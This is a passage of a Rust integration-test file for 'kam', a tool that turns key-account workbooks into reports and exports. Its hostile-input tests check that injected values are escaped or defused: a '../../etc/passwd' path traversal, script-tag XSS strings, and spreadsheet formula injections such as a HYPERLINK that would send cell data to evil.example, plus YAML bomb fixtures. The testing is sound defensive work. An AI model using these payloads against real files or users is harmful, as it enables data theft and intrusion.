    assert_eq!(o.status.code(), Some(0), "{out}");
    assert!(out.ends_with("2 passed, 0 failed\n"), "{out}");
}

/// docs/kam-rules.md names every field a KAM pack can read.
#[test]
fn the_kam_pack_reference_lists_every_name() {
    let doc = fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/kam-rules.md"))
        .unwrap();
    use kam::score::names::{
        ACCOUNT_ROW, ACTIVITY_ROW, CONTACT_ROW, KAM_FIELDS, ROW_COMMON, TENDER_ROW,
    };
    for list in [
        ACCOUNT_ROW,
        ACTIVITY_ROW,
        CONTACT_ROW,
        KAM_FIELDS,
        ROW_COMMON,
        TENDER_ROW,
    ] {
        for (name, _) in list {
            assert!(
                doc.contains(&format!("`{name}`")),
                "docs/kam-rules.md lacks `{name}`"
            );
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Reports and exports (issue 5).

/// Every file under `dir`, relative, sorted.
fn tree(dir: &Path) -> Vec<String> {
    fn walk(base: &Path, dir: &Path, out: &mut Vec<String>) {
        for e in fs::read_dir(dir).unwrap() {
            let p = e.unwrap().path();
            if p.is_dir() {
                walk(base, &p, out);
            } else {
                out.push(p.strip_prefix(base).unwrap().display().to_string());
            }
        }
    }
    let mut out = Vec::new();
    walk(dir, dir, &mut out);
    out.sort();
    out
}

/// The inline SVGs of an HTML page, as text.
fn svgs(html: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut rest = html;
    while let Some(i) = rest.find("<svg") {
        let end = rest[i..].find("</svg>").expect("closed svg") + i + 6;
        out.push(&rest[i..end]);
        rest = &rest[end..];
    }
    out
}

#[test]
fn reports_link_up_and_their_svgs_are_well_formed() {
    let r = run(&["run", "--all-plans"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let files = tree(&r.out);
    // One plan per account (30, --all-plans) and one review per KAM (5), each in two formats.
    assert_eq!(files.iter().filter(|f| f.starts_with("plans/")).count(), 60);
    assert_eq!(
        files.iter().filter(|f| f.starts_with("reviews/")).count(),
        10
    );
    for f in [
        "index.html",
        "index.md",
        "portfolio.html",
        "portfolio.md",
        "scores.xlsx",
        "scores.csv",
        "scores.json",
        "rejects.csv",
        "manifest.json",
    ] {
        assert!(files.contains(&f.to_string()), "{f} missing: {files:?}");
    }
    let a = scraper::Selector::parse("a[href]").unwrap();
    let mut linked = std::collections::BTreeSet::new();
    let mut svg_count = 0;
    for f in files.iter().filter(|f| f.ends_with(".html")) {
        let text = r.file(f);
        let doc = scraper::Html::parse_document(&text);
        assert!(doc.errors.is_empty(), "{f}: {:?}", doc.errors);
        let base = Path::new(f).parent().unwrap();
        for link in doc.select(&a) {
            let href = link.value().attr("href").unwrap();
            assert!(
                !href.contains("://") && !href.starts_with('/'),
                "{f}: reports never link outside the output: {href}"
            );
            let target = r.out.join(base).join(href.split('#').next().unwrap());
            assert!(target.is_file(), "{f}: broken link {href}");
            linked.insert(
                target
                    .canonicalize()
                    .unwrap()
                    .strip_prefix(r.out.canonicalize().unwrap())
                    .unwrap()
                    .display()
                    .to_string(),
            );
        }
        for svg in svgs(&text) {
            roxmltree::Document::parse(svg).unwrap_or_else(|e| panic!("{f}: SVG: {e}\n{svg}"));
            svg_count += 1;
        }
    }
    assert_eq!(
        svg_count, 3,
        "the portfolio's matrix, Pareto curve and share bars"
    );
    // index.html reaches every report.
    let index = scraper::Html::parse_document(&r.file("index.html"));
    let from_index: std::collections::BTreeSet<String> = index
        .select(&a)
        .map(|l| l.value().attr("href").unwrap().to_string())
        .collect();
    for f in files
        .iter()
        .filter(|f| f.starts_with("plans/") || f.starts_with("reviews/"))
    {
        assert!(from_index.contains(f), "index.html does not link {f}");
    }
    assert!(linked.contains("portfolio.html"));
}

fn report_snapshot(lang: &str) {
    let r = run(&["run", "--lang", lang]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    for (name, file) in [
        ("plan", "plans/a01-caspian-steel-jsc"),
        ("review", "reviews/k1"),
        ("portfolio", "portfolio"),
    ] {
        for ext in ["html", "md"] {
            insta::assert_snapshot!(
                format!("report_{lang}_{name}_{ext}"),
                r.file(&format!("{file}.{ext}"))
            );
        }
    }
}

#[test]
fn english_reports_of_the_sample() {
    report_snapshot("en");
}

#[test]
fn russian_reports_of_the_sample() {
    report_snapshot("ru");
    let r = run(&["run", "--lang", "fr"]);
    assert_eq!(r.code, 2);
    assert_says(&r, "unknown --lang `fr`: kam has en, ru");
}

#[test]
fn names_from_the_workbook_cannot_inject_script_formulas_or_paths() {
    let r = run_file("valid/hostile-names.xlsx", &["--all-plans"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let files = tree(&r.out);
    // `../../etc/passwd` as an id and a name becomes a plain file name inside plans/.
    assert!(
        files.contains(&"plans/etc-passwd-etc-passwd.html".to_string()),
        "{files:?}"
    );
    assert!(files.iter().all(|f| !f.contains("..")));
    assert!(!r.out.parent().unwrap().join("etc").exists());
    // Two accounts with the same name get two files.
    assert!(files.contains(&"plans/x5-acme-sons-ltd.html".to_string()));
    assert!(files.contains(&"plans/x6-acme-sons-ltd.html".to_string()));
    let any = scraper::Selector::parse("*").unwrap();
    for f in files.iter().filter(|f| f.ends_with(".html")) {
        let text = r.file(f);
        for bad in ["<script", "<img", "<svg onload", "<b>1", "<i>Evil"] {
            assert!(!text.contains(bad), "{f} prints `{bad}` unescaped");
        }
        // As a browser parses it: no script, image, bold or italic element, no event handler.
        let doc = scraper::Html::parse_document(&text);
        for el in doc.select(&any) {
            let name = el.value().name();
            assert!(
                !["script", "img", "b", "i"].contains(&name),
                "{f}: <{name}> element"
            );
            assert!(
                el.value().attrs().all(|(a, _)| !a.starts_with("on")),
                "{f}: event handler on <{name}>"
            );
        }
    }
    let plan = r.file("plans/x1-script-alert-x-script.html");
    assert!(
        plan.contains("&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;"),
        "{plan}"
    );
    assert!(
        plan.contains("&lt;script&gt;document.write"),
        "the KAM's own text is escaped too"
    );
    let md = r.file("plans/x1-script-alert-x-script.md");
    assert!(
        md.contains("&lt;script&gt;alert('x')&lt;/script&gt;"),
        "{md}"
    );
    assert!(md.contains(r"Needs \| pipes \* stars \_under\_"), "{md}");
    assert!(!md.contains("<script"));
    // CSV and xlsx: text from the workbook that a spreadsheet would run is quoted.
    let csv = r.file("scores.csv");
    assert!(
        csv.contains(r#""'=HYPERLINK(""http://evil.example/?""&A1;""click"")""#),
        "{csv}"
    );
    assert!(csv.contains("'@SUM(1+1)"), "{csv}");
    use calamine::Reader;
    let mut book: calamine::Xlsx<_> = calamine::open_workbook(r.out.join("scores.xlsx")).unwrap();
    let sheet = book.worksheet_range("Accounts").unwrap();
    let names: Vec<String> = sheet.rows().skip(1).map(|row| row[1].to_string()).collect();
    assert!(
        names.contains(&r#"'=HYPERLINK("http://evil.example/?"&A1;"click")"#.to_string()),
        "{names:?}"
    );
    assert!(
        names.iter().all(|n| !n.starts_with(['=', '+', '-', '@'])),
        "{names:?}"
    );
    let managers = book.worksheet_range("Managers").unwrap();
    let kam_names: Vec<String> = managers
        .rows()
        .skip(1)
        .map(|row| row[1].to_string())
        .collect();
    assert!(
        kam_names.contains(&"'+Plus Manager".to_string()),
        "{kam_names:?}"
    );
}

#[test]
fn scores_xlsx_has_three_sheets_with_headers_and_formats() {
    let r = run(&["run"]);
    use calamine::Reader;
    let mut book: calamine::Xlsx<_> = calamine::open_workbook(r.out.join("scores.xlsx")).unwrap();
    assert_eq!(book.sheet_names(), ["Accounts", "Managers", "Rejects"]);
    let accounts = book.worksheet_range("Accounts").unwrap();
    assert_eq!(accounts.height(), 31, "a header and 30 accounts");
    let header: Vec<String> = accounts
        .rows()
        .next()
        .unwrap()
        .iter()
        .map(|c| c.to_string())
        .collect();
    assert_eq!(
        &header[..6],
        ["id", "name", "kam_id", "level", "band", "score"]
    );
    let a01 = accounts.rows().nth(1).unwrap();
    assert_eq!(a01[0].to_string(), "A01");
    let share = header.iter().position(|h| h == "share").unwrap();
    assert_eq!(calamine::DataType::get_float(&a01[share]), Some(0.25));
    // The csv export has the same columns and rows.
    let csv = r.file("scores.csv");
    assert_eq!(csv.lines().next().unwrap(), header.join(","));
    assert_eq!(csv.lines().count(), 31);
    let managers = book.worksheet_range("Managers").unwrap();
    assert_eq!(
        managers.rows().nth(1).unwrap()[0].to_string(),
        "K1",
        "ranked"
    );
    // Frozen header and autofilter are in the sheet XML.
    let bytes = fs::read(r.out.join("scores.xlsx")).unwrap();
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut xml = String::new();
    std::io::Read::read_to_string(
        &mut zip.by_name("xl/worksheets/sheet1.xml").unwrap(),
        &mut xml,
    )
    .unwrap();
    assert!(xml.contains(r#"<pane ySplit="1""#), "frozen header");
    assert!(xml.contains("<autoFilter"), "autofilter");
    assert!(xml.contains("<cols>"), "column widths");
    // Shares are formatted as percentages through their column's format.
    let col = kam::model::column_letters(share as u32);
    let style = xml
        .split(&format!("<c r=\"{col}2\" s=\""))
        .nth(1)
        .and_then(|rest| rest.split('"').next())
        .and_then(|s| s.parse::<usize>().ok())
        .expect("the share cell has a style");
    let mut styles = String::new();
    std::io::Read::read_to_string(&mut zip.by_name("xl/styles.xml").unwrap(), &mut styles).unwrap();
    let fmt_id = styles
        .split("formatCode=\"0.0%\"")
        .next()
        .and_then(|before| before.rsplit("numFmtId=\"").next())
        .and_then(|s| s.split('"').next())
        .expect("a 0.0% number format")
        .to_string();
    let xfs = styles.split("<cellXfs").nth(1).unwrap();
    let xf = xfs.split("<xf ").nth(style + 1).unwrap();
    assert!(
        xf.contains(&format!("numFmtId=\"{fmt_id}\"")),
        "style {style} of the share cell: {xf}"
    );
}

#[test]
fn the_manifest_records_inputs_packs_params_and_templates() {
    let path = fixture("valid/kam-sample.xlsx");
    let r = run(&["run", path.to_str().unwrap(), "--set", "key_share=0.15"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let m: serde_json::Value = serde_json::from_str(&r.file("manifest.json")).unwrap();
    use sha2::Digest;
    let want = sha2::Sha256::digest(fs::read(&path).unwrap())
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect::<String>();
    assert_eq!(m["inputs"][0]["sha256"], want.as_str());
    assert_eq!(m["inputs"][0]["counts"]["accounts"], 30);
    assert_eq!(m["inputs"][0]["counts"]["plans_written"], 6);
    assert_eq!(m["inputs"][0]["counts"]["reviews_written"], 5);
    assert_eq!(m["params"]["key_share"], 0.15);
    assert_eq!(m["set"][0], "key_share=0.15");
    let packs = m["rule_packs"].as_array().unwrap();
    assert_eq!(packs.len(), 2);
    let text = kam::rules::DEFAULT_FILES
        .iter()
        .find(|(n, _)| *n == "key-clients.yaml")
        .unwrap()
        .1;
    let want = sha2::Sha256::digest(text.as_bytes())
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect::<String>();
    assert_eq!(packs[0]["sha256"], want.as_str());
    assert_eq!(m["templates"]["lang"], "en");
    assert!(
        m["templates"]["files"]
            .as_array()
            .unwrap()
            .iter()
            .all(|t| t["origin"] == "embedded")
    );
    for stage in [
        "import_s",
        "scoring_s",
        "kam_metrics_s",
        "exports_s",
        "reports_s",
    ] {
        assert!(m["timings"][stage].is_number(), "{stage}");
    }
}

#[test]
fn overriding_one_template_changes_only_that_report() {
    let dir = tempfile::tempdir().unwrap();
    let t = dir.path().join("tpl");
    fs::create_dir(&t).unwrap();
    fs::write(
        t.join("plan.md"),
        "# {{ account.name }}\n\nOwn layout: {{ account.share | pct }} of our {{ common.params.share_basis }}.\n",
    )
    .unwrap();
    let base = run(&["run"]);
    let custom = run(&["run", "--templates", t.to_str().unwrap()]);
    assert_eq!(custom.code, 0, "{}", custom.stderr);
    assert_eq!(
        custom.file("plans/a01-caspian-steel-jsc.md"),
        "# Caspian Steel JSC\n\nOwn layout: 25.0\u{a0}% of our gross\\_profit.\n"
    );
    for f in tree(&base.out) {
        if f == "manifest.json" || f.starts_with("plans/") && f.ends_with(".md") {
            continue;
        }
        assert_eq!(
            fs::read(base.out.join(&f)).unwrap(),
            fs::read(custom.out.join(&f)).unwrap(),
            "{f} changed"
        );
    }
    let m: serde_json::Value = serde_json::from_str(&custom.file("manifest.json")).unwrap();
    let origin = m["templates"]["files"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["name"] == "plan.md")
        .unwrap()["origin"]
        .clone();
    assert!(origin.as_str().unwrap().ends_with("plan.md"), "{origin}");
}

#[test]
fn template_errors_name_the_file_and_line() {
    let dir = tempfile::tempdir().unwrap();
    let broken = dir.path().join("broken");
    fs::create_dir(&broken).unwrap();
    fs::write(
        broken.join("review.html"),
        "{% extends \"base.html\" %}\n{% block content %}\n<p>{{ kam.name | nosuch }}</p>\n{% endblock content %}\n",
    )
    .unwrap();
    // The previous output stays when a template is broken.
    let out = dir.path().join("out");
    kam()
        .args(["run", "-q", "--out"])
        .arg(&out)
        .assert()
        .success();
    let before = fs::read(out.join("index.html")).unwrap();
    let o = kam()
        .args(["run", "-q", "--templates"])
        .arg(&broken)
        .arg("--out")
        .arg(&out)
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(
        err.contains(&format!("{}:3:", broken.join("review.html").display())),
        "{err}"
    );
    assert!(err.contains("<p>{{ kam.name | nosuch }}</p>"), "{err}");
    assert!(err.contains('^'), "{err}");
    assert_eq!(fs::read(out.join("index.html")).unwrap(), before);

    // An undefined variable: the report is skipped and listed; --strict stops the run.
    let undefined = dir.path().join("undefined");
    fs::create_dir(&undefined).unwrap();
    fs::write(
        undefined.join("plan.md"),
        "# {{ account.name }}\n{{ account.nickname }}\n",
    )
    .unwrap();
    let lenient = run(&["run", "--templates", undefined.to_str().unwrap()]);
    assert_eq!(lenient.code, 0, "{}", lenient.stderr);
    assert_says(
        &lenient,
        "report plans/a01-caspian-steel-jsc.md not written: Field `nickname` is not defined",
    );
    assert_says(
        &lenient,
        "… and 6 more reports with the same template error",
    );
    assert!(
        lenient
            .stderr
            .contains(&format!("{}:2:", undefined.join("plan.md").display()))
    );
    assert!(
        lenient.file("index.html").contains("nickname"),
        "index.html lists the problem"
    );
    let strict = run(&[
        "run",
        "--strict",
        "--templates",
        undefined.to_str().unwrap(),
    ]);
    assert_eq!(strict.code, 2, "{}", strict.stderr);
    assert_says(&strict, "Field `nickname` is not defined");
    assert!(!strict.out.exists(), "nothing written");

    // A language file with a typo in a key.
    let lang = dir.path().join("lang-typo");
    fs::create_dir_all(lang.join("lang")).unwrap();
    let en =
        fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("templates/lang/en.yaml"))
            .unwrap();
    fs::write(
        lang.join("lang/en.yaml"),
        en.replace("plan_title:", "plan_titel:"),
    )
    .unwrap();
    let r = run(&["run", "--templates", lang.to_str().unwrap()]);
    assert_eq!(r.code, 2);
    assert_says(&r, "the key `plan_title` is missing");
}

#[test]
fn a_previous_run_gives_movements_and_actions_done_since() {
    let dir = tempfile::tempdir().unwrap();
    let before = dir.path().join("before");
    kam()
        .args(["run", "-q", "--set", "key_share=0.11", "--out"])
        .arg(&before)
        .assert()
        .success();
    // In the previous run A01's finished action was still open.
    let path = before.join("scores.json");
    let mut s: serde_json::Value = serde_json::from_slice(&fs::read(&path).unwrap()).unwrap();
    let a01 = s["accounts"]
        .as_array_mut()
        .unwrap()
        .iter_mut()
        .find(|a| a["id"] == "A01")
        .unwrap();
    let actions = a01["actions"].as_array_mut().unwrap();
    assert_eq!(actions.len(), 2, "{actions:?}");
    for a in actions.iter_mut() {
        a["status"] = "open".into();
    }
    fs::write(&path, serde_json::to_vec_pretty(&s).unwrap()).unwrap();
    let r = run(&["run", "--previous", before.to_str().unwrap()]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let md = r.file("portfolio.md");
    let movements = &md[md.find("## Movements since the previous run").unwrap()..];
    // At 11 % A03 (10.5 % of profit) was no dependency; at 10 % it is, and its band rises.
    assert!(
        movements.contains("- Silk Road Logistics (A03): none → key"),
        "{movements}"
    );
    assert!(
        movements.contains("- Silk Road Logistics (A03): key → strategic"),
        "{movements}"
    );
    insta::assert_snapshot!("report_movements", movements);
    let plan = r.file("plans/a01-caspian-steel-jsc.md");
    assert!(
        plan.contains("| done (done since the previous run) | open |"),
        "{plan}"
    );
    assert!(
        plan.contains("1 / 2 actions done; 1 done since the previous run"),
        "{plan}"
    );
    let bad = run(&[
        "run",
        "--previous",
        dir.path().join("nowhere").to_str().unwrap(),
    ]);
    assert_eq!(bad.code, 2);
    assert_says(
        &bad,
        "--previous takes the output folder of an earlier `kam run`",
    );
}

#[test]
fn init_copies_the_templates_and_they_render_as_the_defaults() {
    let dir = tempfile::tempdir().unwrap();
    let own = dir.path().join("own");
    kam().arg("init").arg(&own).assert().success();
    for f in [
        "templates/plan.html",
        "templates/review.md",
        "templates/lang/ru.yaml",
        "templates/style.css",
    ] {
        assert!(own.join(f).is_file(), "{f}");
    }
    let base = run(&["run"]);
    let copied = run(&[
        "run",
        "--templates",
        own.join("templates").to_str().unwrap(),
    ]);
    assert_eq!(copied.code, 0, "{}", copied.stderr);
    for f in [
        "index.html",
        "portfolio.md",
        "plans/a01-caspian-steel-jsc.html",
        "reviews/k1.md",
    ] {
        assert_eq!(base.file(f), copied.file(f), "{f}");
    }
}

// ---------------------------------------------------------------------------------------------
// Batches (issue 6).

#[test]
fn no_plans_writes_the_summary_reviews_and_exports_only() {
    let r = run(&["run", "--no-plans"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(!r.out.join("plans").exists());
    assert_eq!(fs::read_dir(r.out.join("reviews")).unwrap().count(), 10);
    for f in ["index.html", "index.md", "portfolio.html", "portfolio.md"] {
        assert!(!r.file(f).contains("plans/"), "{f} links a plan");
    }
    assert_says(&r, "; 0 account plans and 5 manager reviews;");
    let m: serde_json::Value = serde_json::from_str(&r.file("manifest.json")).unwrap();
    assert_eq!(m["options"]["no_plans"], true);
    // The scores are those of a run with plans.
    let with = run(&["run"]);
    assert_eq!(r.file("scores.json"), with.file("scores.json"));
    let both = run(&["run", "--no-plans", "--all-plans"]);
    assert_eq!(both.code, 2);
    assert_says(&both, "'--no-plans' cannot be used with '--all-plans'");
}

#[test]
fn an_internal_error_is_an_apology_with_exit_2_and_the_previous_output_stays() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    let ok = kam()
        .args(["run", "-q", "--out"])
        .arg(&out)
        .output()
        .unwrap();
    assert_eq!(ok.status.code(), Some(0));
    let before = fs::read(out.join("scores.json")).unwrap();
    let o = kam()
        .env("KAM_TEST_PANIC", "1")
        .args(["run", "--out"])
        .arg(&out)
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(
        err.starts_with(
            "error: kam hit an internal error and stopped; sorry. Nothing was written. Please report it with the command you ran.\n  detail: KAM_TEST_PANIC is set: an internal error forced for a test at src/cli/run.rs:"
        ),
        "{err}"
    );
    assert!(
        !err.contains("panicked") && !err.contains("RUST_BACKTRACE"),
        "{err}"
    );
    assert_eq!(err.lines().count(), 2, "{err}");
    assert_eq!(fs::read(out.join("scores.json")).unwrap(), before);
    // The half-written temporary folder is gone too.
    let left: Vec<String> = fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().to_string())
        .collect();
    assert_eq!(left, ["out"]);
}

/// Runs kam in a folder holding copies of the two regional fixtures, named by file only.
fn run_merge(extra: &[&str]) -> Run {
    let dir = tempfile::tempdir().unwrap();
    for f in ["merge-north.xlsx", "merge-south.xlsx"] {
        fs::copy(fixture(&format!("valid/{f}")), dir.path().join(f)).unwrap();
    }
    let out = dir.path().join("out");
    let o = kam()
        .current_dir(dir.path())
        .args([
            "run",
            "merge-north.xlsx",
            "merge-south.xlsx",
            "--merge",
            "--out",
        ])
        .arg(&out)
        .args(extra)
        .output()
        .unwrap();
    Run {
        code: o.status.code().unwrap_or(-1),
        stderr: String::from_utf8_lossy(&o.stderr).to_string(),
        out,
        _dir: dir,
    }
}

#[test]
fn merge_makes_one_portfolio_with_ids_deduplicated_and_conflicts_listed() {
    let r = run_merge(&[]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_says(
        &r,
        "kam:   merged 2 workbooks: 4 ids in more than one (2 with conflicting values, listed in rejects.csv; the first workbook's rows are used)",
    );
    // One output folder, not one per workbook.
    assert!(!r.out.join("merge-north").exists() && !r.out.join("batch.json").exists());
    let s = scores(&r);
    let accounts: Vec<(String, String, f64, f64, serde_json::Value)> = s["accounts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| {
            (
                a["id"].as_str().unwrap().to_string(),
                a["source"].as_str().unwrap().to_string(),
                a["figures"]["revenue"].as_f64().unwrap(),
                a["figures"]["gross_profit"].as_f64().unwrap(),
                a["figures"]["wallet"].clone(),
            )
        })
        .collect();
    // S1 and C1 are in both workbooks: one account each, their Transactions lines summed
    // (200 000 + 300 000; 100 000 + 50 000), the first workbook's row as the source.
    assert_eq!(
        accounts,
        vec![
            (
                "N1".into(),
                "'[merge-north.xlsx]Accounts'!A2".into(),
                400000.0,
                100000.0,
                900000.0.into()
            ),
            (
                "S1".into(),
                "'[merge-north.xlsx]Accounts'!A3".into(),
                500000.0,
                150000.0,
                500000.0.into()
            ),
            (
                "C1".into(),
                "'[merge-north.xlsx]Accounts'!A4".into(),
                150000.0,
                30000.0,
                300000.0.into()
            ),
            (
                "S2".into(),
                "'[merge-south.xlsx]Accounts'!A4".into(),
                1000000.0,
                400000.0,
                2000000.0.into()
            ),
        ]
    );
    // Cells are cited in each workbook's own layout: brand score is column I in the north,
    // column G in the south.
    let cells = |id: &str, rule: &str| -> Vec<String> {
        let a = s["accounts"]
            .as_array()
            .unwrap()
            .iter()
            .find(|a| a["id"] == id)
            .unwrap();
        a["contributions"]
            .as_array()
            .unwrap()
            .iter()
            .find(|c| c["rule"] == rule)
            .unwrap()["cells"]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| c.as_str().unwrap().to_string())
            .collect()
    };
    assert_eq!(
        cells("N1", "reference"),
        [
            "'[merge-north.xlsx]Accounts'!H2",
            "'[merge-north.xlsx]Accounts'!I2"
        ]
    );
    assert_eq!(
        cells("S2", "reference"),
        [
            "'[merge-south.xlsx]Accounts'!I4",
            "'[merge-south.xlsx]Accounts'!G4"
        ]
    );
    assert_eq!(
        cells("N1", "big_money"),
        ["[merge-north.xlsx]Transactions + [merge-south.xlsx]Transactions (sum of lines)"]
    );
    // Conflicting rows are rejects, cited in their own workbook; the first row is used.
    assert_eq!(
        r.file("rejects.csv"),
        "file,sheet,cell,field,value,scope,reason\n\
         merge-south.xlsx,Accounts,Accounts!A3,id,C1,row,account C1 is also in '[merge-north.xlsx]Accounts'!A4 with different values (region: North ≠ South; brand_score: 2 ≠ 4): the first workbook's row is used; correct one of them\n\
         merge-south.xlsx,Managers,Managers!A4,id,K1,row,KAM K1 is also in '[merge-north.xlsx]Managers'!A2 with different values (region: North ≠ South): the first workbook's row is used; correct one of them\n"
    );
    let import: serde_json::Value = serde_json::from_str(&r.file("import.json")).unwrap();
    let dups: Vec<(String, String, Vec<String>, Vec<String>)> = import["merge"]["duplicates"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| {
            let list = |k: &str| -> Vec<String> {
                d[k].as_array()
                    .unwrap()
                    .iter()
                    .map(|v| v.as_str().unwrap().to_string())
                    .collect()
            };
            (
                d["id"].as_str().unwrap().to_string(),
                d["row"].as_str().unwrap().to_string(),
                list("conflicts"),
                list("filled"),
            )
        })
        .collect();
    assert_eq!(
        dups,
        vec![
            // S1 agrees; the south fills in the reference the north left empty, and an extra
            // column only the south has.
            (
                "S1".into(),
                "'[merge-south.xlsx]Accounts'!A2".into(),
                vec![],
                vec!["reference".into(), "strategic_fit".into()]
            ),
            (
                "C1".into(),
                "'[merge-south.xlsx]Accounts'!A3".into(),
                vec!["region: North ≠ South".into(), "brand_score: 2 ≠ 4".into()],
                vec![]
            ),
            (
                "K2".into(),
                "'[merge-south.xlsx]Managers'!A2".into(),
                vec![],
                vec![]
            ),
            (
                "K1".into(),
                "'[merge-south.xlsx]Managers'!A4".into(),
                vec!["region: North ≠ South".into()],
                vec![]
            ),
        ]
    );
    // The reference the south filled in for S1 is used: a reference account scores.
    let s1 = s["accounts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["id"] == "S1")
        .unwrap();
    assert_eq!(
        s1["contributions"]
            .as_array()
            .unwrap()
            .iter()
            .find(|c| c["rule"] == "reference")
            .unwrap()["inputs"]["reference"],
        "yes",
        "{s1}"
    );
    assert_eq!(import["counts"]["managers"], 3);
    assert_eq!(import["counts"]["transaction_lines"], 6);
    let m: serde_json::Value = serde_json::from_str(&r.file("manifest.json")).unwrap();
    let from: Vec<&str> = m["inputs"][0]["merged_from"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["file"].as_str().unwrap())
        .collect();
    assert_eq!(from, ["merge-north.xlsx", "merge-south.xlsx"]);
    assert_eq!(
        m["inputs"][0]["file"],
        "merge-north.xlsx + merge-south.xlsx"
    );

    // Under --strict the conflicts make the run finish with problems.
    assert_eq!(run_merge(&["--strict"]).code, 1);
}

#[test]
fn merge_stops_when_a_workbook_cannot_be_read() {
    let r = run(&[
        "run",
        "--merge",
        fixture("valid/merge-north.xlsx").to_str().unwrap(),
        fixture("invalid/truncated.xlsx").to_str().unwrap(),
    ]);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert_says(
        &r,
        "--merge needs every workbook of the portfolio; fix this one or leave it out",
    );
    assert_says(&r, "truncated.xlsx");
    assert!(!r.out.exists());
}

#[test]
fn a_batch_goes_on_past_a_bad_workbook_and_lists_it() {
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path().join("regions");
    fs::create_dir(&folder).unwrap();
    for f in [
        "valid/ru-headers.xlsx",
        "valid/az-headers.xlsx",
        "invalid/truncated.xlsx",
    ] {
        fs::copy(fixture(f), folder.join(Path::new(f).file_name().unwrap())).unwrap();
    }
    // Excel's lock files and other files in the folder are not workbooks.
    fs::write(folder.join("~$ru-headers.xlsx"), "lock").unwrap();
    fs::write(folder.join("notes.txt"), "x").unwrap();
    let sample = fixture("valid/kam-sample.xlsx");
    let r = run(&["run", folder.to_str().unwrap(), sample.to_str().unwrap()]);
    assert_eq!(
        r.code, 1,
        "finished, with a workbook not processed: {}",
        r.stderr
    );
    assert!(
        r.stderr.contains("truncated.xlsx: not processed:")
            && r.stderr.contains("damaged or incomplete"),
        "{}",
        r.stderr
    );
    let batch: serde_json::Value = serde_json::from_str(&r.file("batch.json")).unwrap();
    let rows: Vec<(String, String)> = batch["workbooks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|w| {
            (
                Path::new(w["file"].as_str().unwrap())
                    .file_name()
                    .unwrap()
                    .to_string_lossy()
                    .to_string(),
                w["status"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    assert_eq!(
        rows,
        [
            ("az-headers.xlsx".to_string(), "ok".to_string()),
            ("ru-headers.xlsx".to_string(), "ok".to_string()),
            ("truncated.xlsx".to_string(), "failed".to_string()),
            ("kam-sample.xlsx".to_string(), "ok".to_string()),
        ]
    );
    assert_eq!(batch["totals"]["accounts"], 38);
    assert_eq!(batch["workbooks"][3]["plans"], 7);
    // Each workbook has its own folder of reports; the batch index links them all.
    for f in [
        "az-headers/index.html",
        "ru-headers/plans",
        "kam-sample/reviews/k1.html",
    ] {
        assert!(r.out.join(f).exists(), "{f}");
    }
    let index = r.file("index.html");
    for link in [
        "az-headers/index.html",
        "ru-headers/index.html",
        "kam-sample/index.html",
    ] {
        assert!(index.contains(&format!("href=\"{link}\"")), "{link}");
    }
    assert!(index.contains("could not be read"), "{index}");
    let m: serde_json::Value = serde_json::from_str(&r.file("manifest.json")).unwrap();
    assert_eq!(m["failed"].as_array().unwrap().len(), 1);
    assert_eq!(m["inputs"].as_array().unwrap().len(), 3);

    // --fail-fast stops at the bad workbook and keeps nothing.
    let ff = run(&["run", "--fail-fast", folder.to_str().unwrap()]);
    assert_eq!(ff.code, 2, "{}", ff.stderr);
    assert!(!ff.out.exists());
    // A batch where nothing can be read could not run.
    let none = run(&[
        "run",
        fixture("invalid/truncated.xlsx").to_str().unwrap(),
        fixture("invalid/empty.xlsx").to_str().unwrap(),
    ]);
    assert_eq!(none.code, 2, "{}", none.stderr);
    assert_says(&none, "none of the 2 workbooks could be read");
    // A folder without workbooks is a mistake in the command.
    let empty = dir.path().join("empty");
    fs::create_dir(&empty).unwrap();
    let e = run(&["run", empty.to_str().unwrap()]);
    assert_eq!(e.code, 2);
    assert_says(&e, "holds no workbook (.xlsx, .xlsm, .xlsb, .xls, .ods)");
}

// ---------------------------------------------------------------------------------------------
// Hostile and degenerate input (issue 6).

#[test]
fn yaml_bombs_are_refused_quickly_with_a_hint() {
    let validate = |dir: &str| {
        let o = kam()
            .args(["validate", "--rules"])
            .arg(fixture(dir))
            .output()
            .unwrap();
        (
            o.status.code(),
            String::from_utf8_lossy(&o.stderr).into_owned(),
        )
    };
    let (code, err) = validate("rules/yaml-bombs/laughs");
    assert_eq!(code, Some(2), "{err}");
    assert!(
        err.contains("laughs.yaml: repetition limit exceeded"),
        "{err}"
    );
    assert!(err.contains("billion laughs"), "{err}");
    let (code, err) = validate("rules/yaml-bombs/deep");
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("deep.yaml"), "{err}");
    // A 600-character line is shown as a window around the problem, not whole.
    assert!(err.lines().all(|l| l.chars().count() < 200), "{err}");
    let mapping = run(&[
        "run",
        fixture("valid/kam-sample.xlsx").to_str().unwrap(),
